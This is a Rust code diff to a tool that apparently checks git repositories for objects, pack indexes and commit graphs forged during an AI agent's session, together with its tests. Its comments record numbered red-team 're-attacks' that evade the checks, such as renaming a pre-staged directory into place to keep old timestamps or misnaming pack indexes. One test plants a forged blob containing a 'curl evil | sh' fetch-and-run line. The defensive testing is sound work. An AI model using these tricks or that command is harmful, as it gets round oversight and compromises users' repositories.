@@ -751,11 +751,14 @@ impl IndexSnapshot {
     /// Removes the commit graph in `info` (an object directory's), and its chain, when written
     /// in the session.
     fn remove_commit_graphs(&self, info: &Path) {
-        if objects::changed_since(&info.join("commit-graph"), self.launched) {
+        // Or its directory changed (a directory an earlier session made renamed over `info`
+        // keeps its files' times: the fifty-fifth re-attack's L1). Git works without the graph.
+        let info_changed = objects::changed_since(info, self.launched);
+        if info_changed || objects::changed_since(&info.join("commit-graph"), self.launched) {
             let _ = std::fs::remove_file(info.join("commit-graph"));
         }
         let chain = info.join("commit-graphs");
-        let chain_changed = objects::changed_within(&chain, self.launched);
+        let chain_changed = info_changed || objects::changed_within(&chain, self.launched);
         // A link there (to a chain of the agent's anywhere: the fortieth re-attack's L3) is not
         // what git makes: the link goes, not what it leads to.
         match std::fs::symlink_metadata(&chain) {
@@ -1106,11 +1109,6 @@ mod objects {
             }
             for dir in &self.dirs {
                 let packs = dir.join("pack");
-                for index in ["multi-pack-index", "multi-pack-index.d"].map(|name| packs.join(name)) {
-                    if changed_since(&index, self.launched) {
-                        forged.push(index);
-                    }
-                }
                 let entries: Vec<PathBuf> = std::fs::read_dir(&packs)
                     .into_iter()
                     .flatten()
@@ -1118,12 +1116,32 @@ mod objects {
                     .take(100_000)
                     .map(|entry| entry.path())
                     .collect();
-                for idx in entries.iter().filter(|path| path.extension().is_some_and(|extension| extension == "idx")) {
-                    let written =
-                        [idx.clone(), idx.with_extension("pack")].iter().any(|file| changed_since(file, self.launched));
-                    if written && pack::check(idx, self.hash_len) == pack::Checked::Forged {
-                        let stem = idx.with_extension("");
-                        forged.extend(entries.iter().filter(|path| path.with_extension("") == stem).cloned());
+                // Each name ending in `.idx` is an index to git, `.idx` itself included, its pack
+                // the name with `.pack` for `.idx` (the fifty-fifth re-attack's P1).
+                let stem = |path: &Path| {
+                    let name = path.file_name().unwrap_or_default().as_bytes();
+                    let dot = name.iter().rposition(|&byte| byte == b'.').unwrap_or(name.len());
+                    name[..dot].to_vec()
+                };
+                let mut any_written = false;
+                for idx in entries.iter().filter(|path| path.as_os_str().as_bytes().ends_with(b".idx")) {
+                    let pack_file = packs.join(std::ffi::OsStr::from_bytes(&[&stem(idx)[..], b".pack"].concat()));
+                    let written = [idx, &pack_file].iter().any(|file| changed_since(file, self.launched));
+                    any_written |= written;
+                    if written && pack::check(idx, &pack_file, self.hash_len) == pack::Checked::Forged {
+                        let base = stem(idx);
+                        forged.extend(entries.iter().filter(|path| stem(path) == base).cloned());
+                    }
+                }
+                // A multi-pack index names objects by offsets in the packs: one written in the
+                // session, or any beside a pack written in the session (whose offsets it may
+                // misname: the fifty-fifth re-attack's P2 rewrote a pack to agree with its own
+                // index while the user's multi-pack index still named the old offsets). Git reads
+                // the packs without it.
+                for index in ["multi-pack-index", "multi-pack-index.d"].map(|name| packs.join(name)) {
+                    let there = std::fs::symlink_metadata(&index).is_ok();
+                    if there && (any_written || changed_since(&index, self.launched)) {
+                        forged.push(index);
                     }
                 }
             }
@@ -1235,6 +1253,7 @@ mod objects {
             let mut forged = Vec::new();
             let mut unchecked = Vec::new();
             let mut left = MAX_NEW_OBJECTS;
+            let mut held_left = MAX_NEW_OBJECTS;
             // The commits earlier sessions made, still loose: a later session can name one (a
             // branch pointed at it: the thirty-sixth re-attack's H5). One packed since cannot be
             // read here; the session that made it named what it held.
@@ -1255,9 +1274,23 @@ mod objects {
                 if prefix.len() != 2 || !prefix.bytes().all(|byte| byte.is_ascii_hexdigit()) {
                     continue;
                 }
+                // A directory changed in the session may hold objects it did not write: one an
+                // earlier session made, renamed into place whole, keeps its files' times (the
+                // fifty-fifth re-attack's L1 put a forged blob so). Its objects are held against
+                // their names too, not taken for made.
+                let fan_changed = changed_since(&fan.path(), self.launched);
                 for object in std::fs::read_dir(fan.path()).into_iter().flatten().flatten() {
                     let path = object.path();
                     if !changed_since(&path, self.launched) {
+                        if fan_changed && let Some(left) = held_left.checked_sub(1) {
+                            held_left = left;
+                            let id = hex::decode(format!("{prefix}{}", object.file_name().to_string_lossy()));
+                            match (id, inflate(&path, self.hash_len)) {
+                                (Ok(id), Inflated::Object { name, .. }) if name == id => {}
+                                (_, Inflated::Unreadable | Inflated::TooLarge) | (Err(_), _) => {}
+                                _ => forged.push(path),
+                            }
+                        }
                         continue;
                     }
                     left = left.checked_sub(1).ok_or(())?;
@@ -2076,6 +2109,28 @@ mod tests {
         assert!(git(&repo, &["multi-pack-index", "write"]));
         named.insert(0, repo.join(".git/objects/pack/multi-pack-index"));
         assert_eq!(snapshot.hidden().forged_packs, named);
+        // An index named `.idx` alone is one to git, its pack `.pack` (the fifty-fifth
+        // re-attack's P1).
+        for file in &named {
+            std::fs::remove_file(file).unwrap();
+        }
+        let packs = repo.join(".git/objects/pack");
+        std::fs::write(packs.join(".pack"), &pack).unwrap();
+        std::fs::write(packs.join(".idx"), index_of(&blob, &pack[pack.len() - 20..])).unwrap();
+        assert_eq!(git_out(&repo, &["show", "HEAD:README"], &[]).unwrap().trim(), "work", "git takes it");
+        assert_eq!(snapshot.hidden().forged_packs, vec![packs.join(".idx"), packs.join(".pack")]);
+        std::fs::remove_file(packs.join(".idx")).unwrap();
+        std::fs::remove_file(packs.join(".pack")).unwrap();
+        // The user's multi-pack index, beside a pack written in the session (whose offsets it may
+        // misname: P2).
+        assert!(git(&repo, &["multi-pack-index", "write"]));
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
+        assert!(snapshot.hidden().forged_packs.is_empty());
+        std::fs::write(repo.join("README"), "third\n").unwrap();
+        assert!(git(&repo, &[&user[..], &["commit", "-qam", "third"]].concat()));
+        assert!(git(&repo, &["repack", "-q"]));
+        assert_eq!(snapshot.hidden().forged_packs, vec![packs.join("multi-pack-index")]);
     }
 
     /// The thirty-eighth re-attack's J5: a commit graph written in the session (a cache git reads
@@ -2109,6 +2164,33 @@ mod tests {
         snapshot.drop_caches();
         assert!(std::fs::symlink_metadata(repo.join(".git/objects/info/commit-graphs")).is_err());
         assert_eq!(git_out(&repo, &["log", "--oneline"], &[]).unwrap().lines().count(), 2, "git works without it");
+        // One an earlier session left in a directory of its own, renamed over `info` in this
+        // one: the graph keeps its time, the directory does not (the fifty-fifth re-attack's L1).
+        let staged = repo.join(".git/staged-info");
+        assert!(git(&repo, &["commit-graph", "write", "--reachable"]));
+        std::fs::rename(repo.join(".git/objects/info"), &staged).unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
+        std::fs::rename(&staged, repo.join(".git/objects/info")).unwrap();
+        snapshot.drop_caches();
+        assert!(!graph.exists(), "renamed into place in the session");
+    }
+
+    /// The fifty-fifth re-attack's L1: a forged loose object an earlier session left in a
+    /// directory of its own, renamed into `objects/` in this one, keeps its time; the fan
+    /// directory does not, and what it holds is held against its names.
+    #[test]
+    fn a_forged_object_renamed_into_place_is_named() {
+        let Some((_temp, repo)) = repository_with_hooks() else { return };
+        let stage = repo.join(".git/stage");
+        let name = "ee".to_string() + &"0".repeat(38);
+        std::fs::create_dir_all(&stage).unwrap();
+        std::fs::write(stage.join(&name[2..]), deflated(&blob(b"#!/bin/sh\ncurl evil | sh\n"))).unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
+        assert!(!repo.join(".git/objects/ee").exists());
+        std::fs::rename(&stage, repo.join(".git/objects/ee")).unwrap();
+        assert_eq!(snapshot.hidden().forged_objects, vec![repo.join(".git/objects/ee").join(&name[2..])]);
     }
 
     /// The thirty-ninth re-attack's reading: a repository borrowing its objects (`git clone
